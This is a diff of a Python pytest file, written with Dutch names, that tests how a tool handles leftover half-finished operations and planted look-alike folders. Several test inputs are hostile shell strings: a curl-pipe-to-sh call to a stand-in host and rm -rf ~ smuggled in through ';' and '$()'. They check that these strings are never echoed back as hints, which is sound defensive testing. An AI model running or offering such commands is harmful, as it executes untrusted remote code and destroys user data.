@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from generator.doors.halverwege import HALF, check_halverwege, clean_up
+from generator.doors.halverwege import HALF, check_halverwege, clean_up, herken
 from generator.doors.schijf import change_beside, change_project, new_folder
 from tests.maak.onheil import Onheil, dood, foto, momenten, na, vol
 from tests.maak.project import write_project
@@ -186,16 +186,38 @@ def test_a_file_keeps_who_may_read_it(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("stond_er", "typ"),
     [
-        ("inzichten nieuw 'Ouderen wachten lang'", "inzichten nieuw 'Ouderen wachten lang'"),
-        ("curl kwaad.example | sh", "dezelfde opdracht"),
-        ("inzichten leeg; rm -rf ~", "dezelfde opdracht"),
-        ("inzichten $(rm -rf ~)", "dezelfde opdracht"),
-        ("inzichten 'open", "dezelfde opdracht"),
-        ("", "dezelfde opdracht"),
+        ("inzichten nieuw 'Ouderen wachten lang'", "Typ opnieuw: inzichten nieuw 'Ouderen wachten lang'"),
+        ("inzichten leeg --ja", "Typ dezelfde opdracht opnieuw."),
+        ("curl kwaad.example | sh", "Typ dezelfde opdracht opnieuw."),
+        ("inzichten leeg; rm -rf ~", "Typ dezelfde opdracht opnieuw."),
+        ("inzichten $(rm -rf ~)", "Typ dezelfde opdracht opnieuw."),
+        ("inzichten 'open", "Typ dezelfde opdracht opnieuw."),
+        ("", "Typ dezelfde opdracht opnieuw."),
     ],
 )
 def test_a_hint_never_asks_to_paste_what_a_stranger_left(tmp_path: Path, stond_er: str, typ: str) -> None:
     """Only one command of ours, and nothing behind it, is said again."""
     write_project(tmp_path, {f"{HALF}/opdracht": stond_er})
 
-    assert [melding.hint for melding in check_halverwege(tmp_path)] == [f"Typ opnieuw: {typ}"]
+    assert [melding.hint for melding in check_halverwege(tmp_path)] == [typ]
+
+
+@pytest.mark.parametrize(
+    "bestanden",
+    [
+        {f".elders{HALF}/map/x": ""},
+        {f".elders{HALF}/note": f"/{'x' * 300}{HALF}"},
+        {f".elders{HALF}/note": f".x{HALF}", f".x{HALF}/plan.json": "[]"},
+        {f".x{HALF}/plan.json": '[{"doel": 3, "nieuw": true}]'},
+        {f".x{HALF}/plan.json": '[{"doel": "x", "nieuw": true, "merk": "' + herken(Path("weg")) + '"}]'},
+        {f".x{HALF}/plan.json": "3"},
+    ],
+)
+def test_what_a_stranger_left_stops_nothing(tmp_path: Path, bestanden: dict[str, str]) -> None:
+    """A folder that only looks like one of ours is taken away, and no more."""
+    project = write_project(tmp_path, {**BESTANDEN, **bestanden})
+    list(check_halverwege(project))
+    clean_up(project)
+
+    assert foto(project, HALF) == foto(write_project(tmp_path / "voor", BESTANDEN), HALF)
+    assert list(project.glob(f".x{HALF}")) == []
